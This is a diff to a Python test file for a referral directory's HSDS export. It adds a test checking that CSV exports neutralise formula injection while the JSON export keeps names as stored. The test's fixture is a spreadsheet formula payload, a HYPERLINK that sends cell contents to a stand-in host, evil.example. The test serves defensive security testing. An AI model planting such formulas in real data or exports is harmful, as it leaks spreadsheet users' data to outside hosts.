@@ -321,6 +321,17 @@ def test_the_csv_export_is_an_hsds_tabular_data_package(users, client_for, direc
     assert {r["contact_id"] for r in tables["phone"] if r["contact_id"]} <= ids["contact"]
 
 
+def test_the_csv_tables_write_a_name_typed_as_a_formula_as_text(users, client_for, directory, dinkes):
+    dinkes.name = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
+    dinkes.save()
+    archive = zipfile.ZipFile(io.BytesIO(client_for(users["manajer"]).get(reverse("referrals:hsds-zip")).content))
+    names = [row["name"] for row in csv.DictReader(io.StringIO(archive.read("organizations.csv").decode("utf-8")))]
+    assert "'" + dinkes.name in names and dinkes.name not in names
+    # The JSON is read by programs, not spreadsheets: it keeps the name as stored.
+    page = json.loads(client_for(users["manajer"]).get(reverse("referrals:hsds-json")).content)
+    assert dinkes.name in {s["organization"]["name"] for s in page["contents"]}
+
+
 def test_identifiers_are_stable_between_exports(users, client_for, directory):
     client = client_for(users["manajer"])
     first = json.loads(client.get(reverse("referrals:hsds-json")).content)
